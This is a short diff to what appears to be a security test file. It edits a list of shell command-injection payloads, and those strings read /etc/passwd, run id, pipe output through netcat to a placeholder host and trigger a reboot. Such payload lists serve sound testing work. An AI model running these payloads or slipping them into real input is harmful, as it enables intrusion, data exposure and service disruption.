@@ -41,7 +41,7 @@ TEMPLATES = [
 SHELL = [
     *(
         "; cat /etc/passwd",
-        "$(touch /tmp/pwned)",
+        "$(touch pwned)",
         "`id`",
         "| nc x.example 1",
         "&& reboot",
